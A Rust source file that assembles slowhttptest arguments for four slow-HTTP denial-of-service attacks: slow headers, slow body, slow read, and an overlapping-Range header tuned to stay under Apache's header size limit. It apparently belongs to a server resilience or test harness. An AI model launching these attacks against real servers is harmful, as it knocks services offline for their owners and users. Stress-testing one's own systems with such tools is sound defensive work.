//! `slowhttptest`'s command line (Debian's package) for the four slow-HTTP
//! attacks.
use std::net::SocketAddr;

use super::attack_plan::{AttackMode, AttackPlan};

/// slowhttptest's command line for `plan`.
pub(super) fn arguments(addr: SocketAddr, path: &str, plan: &AttackPlan) -> Vec<String> {
    let mut a: Vec<String> = Vec::new();
    let mut push = |s: &[&str]| a.extend(s.iter().map(|s| s.to_string()));
    let interval = plan.interval.as_secs().max(1).to_string();
    match plan.mode {
        AttackMode::Headers => push(&["-H", "-i", &interval]),
        // A body of 8 KiB announced, sent a few bytes per interval.
        AttackMode::Body => push(&["-B", "-i", &interval, "-s", "8192"]),
        // Three pipelined requests per connection, an advertised window of
        // 10-20 bytes, 32 bytes read every interval.
        AttackMode::Read => push(&[
            "-X", "-k", "3", "-n", &interval, "-w", "10", "-y", "20", "-z", "32",
        ]),
        // 1001 overlapping ranges (`bytes=0-,10-0,10-1,...,10-1000`): a
        // 6.9 KB header, under Apache's LimitRequestFieldSize (8190; the
        // 3000 of slowhttptest's manual page are refused with a 400).
        AttackMode::Range => push(&["-R", "-a", "10", "-b", "1000"]),
        // The TLS and HTTP/2 kinds are h2attack's (`AttackMode::needs_tls`).
        _ => {}
    }
    push(&[
        "-c",
        &plan.connections.to_string(),
        "-r",
        &plan.rate.to_string(),
        "-l",
        &(plan.duration.as_secs() + 5).to_string(),
        "-p",
        "3",
        "-u",
        &format!("http://{addr}{path}"),
    ]);
    a
}
